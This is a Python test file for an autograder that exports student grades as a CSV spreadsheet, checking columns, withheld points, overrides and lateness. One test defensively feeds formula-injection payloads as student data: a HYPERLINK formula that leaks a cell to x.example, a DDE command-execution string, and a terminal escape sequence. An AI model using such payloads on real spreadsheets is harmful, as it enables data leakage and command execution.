"""The table opens in a spreadsheet: names whole, formulas dead, withheld points empty."""

import csv
import io
from collections.abc import Callable
from dataclasses import replace

from richreport import ARRIVAL, rich

from autograder.outputs import Absent, grades_table
from autograder.report import Outcome, Override, Report
from autograder.rubric import Rubric

MakeReport = Callable[..., Report]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_columns_are_who_then_every_criterion_then_the_totals(
    rubric: Rubric, make_report: MakeReport
) -> None:
    text = grades_table(rubric, [make_report()])
    assert text.startswith("\ufeff")
    (row,) = rows(text)
    who = ["key", "id", "name", "source", "status", "needs_person", "why"]
    program, people = ([c.id for c in group] for group in (rubric.program, rubric.people))
    came = ["attempt", "submitted", "late", "seconds_late"]
    totals = ["decided", "proposed", "extra", "possible"]
    counts = ["format_penalty", "deducted", "grade", "provisional", "overrides", "rulings"]
    assert list(row) == [*who, *came, *program, *people, *totals, *counts]
    assert {""} == {row[name] for name in (*came, *counts)}
    assert ("陳敬中", "graded", "", "") == (row["name"], row["status"], *(row[n] for n in who[5:]))
    assert {""} == {row[identity] for identity in people}
    assert ["40", "15", "10", "100"] == [row[name] for name in totals]
    assert ("20", "0.25") == (row["accuracy.xor"], row["training.again"])


def test_withheld_points_are_empty_and_lost_ones_are_zero(
    rubric: Rubric, make_report: MakeReport
) -> None:
    outcomes = {"accuracy.linear": Outcome.NOT_GRADED, "accuracy.xor": Outcome.FAILED}
    (row,) = rows(grades_table(rubric, [make_report(outcomes, message="odd")]))
    assert ("", "0") == (row["accuracy.linear"], row["accuracy.xor"])
    assert ("yes", "accuracy.linear: odd") == (row["needs_person"], row["why"])


def test_a_decision_counts_in_its_cell_and_is_said_beside(
    rubric: Rubric, make_report: MakeReport
) -> None:
    outcomes = {"accuracy.linear": Outcome.NOT_GRADED, "accuracy.xor": Outcome.FAILED}
    said = {"who": "=Chen", "when": "2027-03-12", "why": "an outage"}
    report = replace(
        make_report(outcomes, message="odd"),
        decisions=(
            Override(criterion="accuracy.linear", points=20.0, **said),
            Override(criterion="accuracy.xor", points=12.5, **said),
        ),
    )
    (row,) = rows(grades_table(rubric, [report]))
    assert ("20", "12.5") == (row["accuracy.linear"], row["accuracy.xor"])
    assert ("graded", "") == (row["status"], row["needs_person"])
    assert row["overrides"] == (
        "accuracy.linear withheld -> 20 (=Chen: an outage); "
        "accuracy.xor 0 -> 12.5 (=Chen: an outage)"
    )


def test_rows_keep_the_order_they_are_given_in(rubric: Rubric, make_report: MakeReport) -> None:
    reports = [make_report(key=key) for key in "bca"]
    assert list("bca") == [row["key"] for row in rows(grades_table(rubric, reports))]


def test_no_text_of_a_student_can_act(rubric: Rubric, make_report: MakeReport) -> None:
    evil = {
        "name": '=HYPERLINK("http://x.example/?"&B2;"you, "\r\n=1+1',
        "source": "\x1b]0;owned\x07@SUM(1).zip",
        "id": "+313551157",
    }
    report = make_report(Outcome.NOT_GRADED, message="=cmd|' /C calc'!A0", **evil)
    text = grades_table(rubric, [report])
    assert 2 == len(text.splitlines())
    (row,) = rows(text)
    assert row["name"] == '\'=HYPERLINK("http://x.example/?"&B2;"you, "\\u000D\\u000A=1+1'
    assert row["source"] == "\\u001B]0;owned\\u0007@SUM(1).zip"
    assert row["id"] == "'+313551157"
    assert row["why"] == "'=cmd|' /C calc'!A0"


def test_text_is_quoted_and_numbers_are_not(rubric: Rubric, make_report: MakeReport) -> None:
    line = grades_table(rubric, [make_report()]).splitlines()[1]
    assert line.startswith('"313551157","313551157","陳敬中","a.zip","graded",')
    assert line.endswith(',40,15,10,100,"","","","","",""')


def test_a_row_says_when_it_came_and_what_counts(rubric: Rubric, make_report: MakeReport) -> None:
    (row,) = rows(grades_table(rubric, [rich(make_report())]))
    came = [row[name] for name in ("attempt", "submitted", "late", "seconds_late")]
    assert came == ["2", "2027-03-26T02:04:00+08:00", "late", "7500"]
    counts = [row[name] for name in ("format_penalty", "deducted", "grade", "provisional")]
    assert counts == ["5", "5", "37", "yes"]
    assert row["rulings"] == (
        "waived: late (Chen: the LMS was down that night); "
        "the attempt that counts: 2 (Lin: the third was handed in by mistake, and she wrote so at "
        "once)"
    )


def test_lateness_that_nobody_knows_is_no_number(rubric: Rubric, make_report: MakeReport) -> None:
    unknown = ARRIVAL | {"state": "unknown", "submitted": None, "seconds_late": None}
    report = rich(make_report(), arrival=unknown, grade={"points": None, "provisional": True})
    (row,) = rows(grades_table(rubric, [report]))
    assert ("", "unknown", "") == (row["submitted"], row["late"], row["seconds_late"])
    assert ("", "yes") == (row["grade"], row["provisional"])


def test_who_is_absent_has_a_row_and_no_number(rubric: Rubric, make_report: MakeReport) -> None:
    absent = [
        Absent("313551201", "=周杰倫", "no hand-in"),
        Absent("313551202", "Zoë", "draft only", "Moodle says: draft"),
    ]
    _, nothing, draft = rows(grades_table(rubric, [make_report()], absent))
    told = {name: value for name, value in nothing.items() if value}
    assert told == {"id": "313551201", "name": "'=周杰倫", "status": "no hand-in"}
    assert ("draft only", "Moodle says: draft") == (draft["status"], draft["why"])
    assert {""} == {draft[criterion.id] for criterion in rubric.criteria}
